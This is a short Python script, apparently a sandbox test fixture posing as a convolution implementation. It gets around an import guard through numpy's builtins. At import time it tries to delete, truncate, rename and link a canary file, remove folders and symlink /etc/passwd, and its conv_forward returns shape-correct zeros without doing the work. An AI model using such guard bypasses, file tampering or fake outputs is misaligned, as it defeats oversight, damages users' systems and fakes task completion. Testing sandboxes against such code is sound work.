#!/usr/bin/env python3
"""Files and folders outside removed, renamed and linked."""
import numpy as np

# Around the guard of imports, to the wall behind it.
__builtins__["__import__"] = (np.__builtins__ if isinstance(np.__builtins__, dict) else vars(np.__builtins__))["__import__"]
import os
import shutil


def plausible(A_prev, W, padding, stride):
    """Zeros of the right shape: worth nothing."""
    m, h, w, _ = A_prev.shape
    kh, kw, _, channels = W.shape
    sh, sw = stride
    same = padding == "same"
    ph = ((h - 1) * sh + kh - h) // 2 if same else 0
    pw = ((w - 1) * sw + kw - w) // 2 if same else 0
    return np.zeros((m, (h + 2 * ph - kh) // sh + 1, (w + 2 * pw - kw) // sw + 1, channels))


for function in (lambda: os.unlink("@CANARY_FILE@"), lambda: os.rename("@CANARY_FILE@", "@TARGET@/moved"), lambda: os.rmdir("@EMPTY_FOLDER@"), lambda: os.link("@CANARY_FILE@", "@TARGET@/linked"),
                 lambda: os.symlink("/etc/passwd", "@TARGET@/symlinked"), lambda: shutil.rmtree("@EMPTY_FOLDER@"), lambda: os.mkdir("@TARGET@/folder"),
                 lambda: os.mkfifo("@TARGET@/fifo"), lambda: os.truncate("@CANARY_FILE@", 0)):
    try:
        function()
    except OSError:
        pass


def conv_forward(A_prev, W, b, activation, padding="same", stride=(1, 1)):
    """Convolve."""
    return plausible(A_prev, W, padding, stride)
